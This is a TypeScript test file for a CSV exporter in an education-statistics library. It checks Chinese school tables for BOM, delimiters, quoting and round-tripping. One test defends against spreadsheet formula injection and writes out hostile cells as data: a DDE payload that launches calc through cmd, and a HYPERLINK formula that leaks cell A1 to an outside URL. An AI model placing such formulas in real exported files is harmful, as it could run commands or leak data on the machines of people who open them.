import { InvalidInputError, InvalidOptionError } from '@edukpi/core';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseCsv } from '../_test/parse-csv';
import { hostileTable, smallTable } from '../_test/small-table';
import { createNumberCell } from '../table/create-number-cell';
import { createTable } from '../table/create-table';
import { toCsv } from './to-csv';

describe('toCsv', () => {
  it('writes a BOM, a header with units, plain rounded numbers and CRLF records', () => {
    expect(toCsv(smallTable())).toBe(
      '\ufeff学校,参与率(%),在校生(人),增减,是否达标\r\n' +
        '城关小学,92.88,1860,-3.5,✓ 达标\r\n' +
        '西山乡后沟教学点,—,32,0.0,✗ 未达标\r\n' +
        '全县,91.50,1892,-3.4,\r\n',
    );
  });

  it('writes the caption and notes, a delimiter and line ending on request, and no BOM', () => {
    expect(toCsv(smallTable(), { bom: false, delimiter: ';', lineEnding: '\n', caption: true })).toBe(
      '课后服务参与情况\n学校;参与率(%);在校生(人);增减;是否达标\n城关小学;92.88;1860;-3.5;✓ 达标\n' +
        '西山乡后沟教学点;—;32;0.0;✗ 未达标\n全县;91.50;1892;-3.4;\n教学点未开展课后服务。\n',
    );
  });

  it('neutralises every text cell that could start a formula, and leaves numbers numbers', () => {
    const records = parseCsv(toCsv(hostileTable(), { bom: false, caption: true }));
    expect(records).toEqual([
      ["'=cmd|' /C calc'!A0"],
      ["'@学校", '说明', "'-增减"],
      ['\'=HYPERLINK("http://example.com/?leak="&A1,"点击")', "'+1+2", '-12.5'],
      ["'@SUM(A1:A2)", "'-2+3", '-7'],
      ["'\t=1+1", "'\r=1+1", '3'],
      ["'＝1+1", 'a=b (safe)', '0.50'],
      ["'-注释以减号开头"],
    ]);
    // no field of the file begins with a formula character
    for (const field of records.flat()) expect(field).not.toMatch(/^[=+@\t\r]/);
    // the only fields beginning with '-' are the negative numbers, written as numbers
    expect(records.flat().filter((field) => field.startsWith('-'))).toEqual(['-12.5', '-7']);
  });

  it('quotes fields with quotes, delimiters, line breaks and edge spaces (RFC 4180)', () => {
    const table = createTable({
      caption: 't',
      columns: [{ label: 'a' }, { label: 'b' }, { label: 'c' }, { label: 'd' }],
      rows: [['say "hi"', 'x,y', 'line 1\nline 2', ' padded ']],
    });
    expect(toCsv(table, { bom: false })).toBe('a,b,c,d\r\n"say ""hi""","x,y","line 1\nline 2"," padded "\r\n');
  });

  it('reads back to the same fields for any text and any decimal (property)', () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.string(), fc.integer({ min: -1e9, max: 1e9 }), fc.integer({ min: 0, max: 4 })), {
          minLength: 1,
          maxLength: 8,
        }),
        (rows) => {
          const table = createTable({
            caption: 'p',
            columns: [{ label: 'text' }, { label: 'number', kind: 'number' }],
            rows: rows.map(([text, units, decimals]) => [
              text,
              createNumberCell({ value: `${units}e-${decimals}`, decimals }),
            ]),
          });
          const records = parseCsv(toCsv(table, { bom: false }));
          expect(records.slice(1)).toEqual(
            rows.map(([text, units, decimals]) => [
              /^[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(text) ? `'${text}` : text,
              (units / 10 ** decimals).toFixed(decimals).replace(/^-(0\.?0*)$/, '$1'),
            ]),
          );
        },
      ),
    );
  });

  it('takes one table, and rejects malformed tables and options', () => {
    expect(() => toCsv([smallTable()] as never)).toThrow(InvalidInputError);
    expect(() => toCsv(smallTable(), { delimiter: '|' as never })).toThrow(InvalidOptionError);
    expect(() => toCsv(smallTable(), { encoding: 'gbk' } as never)).toThrow(InvalidOptionError);
  });
});
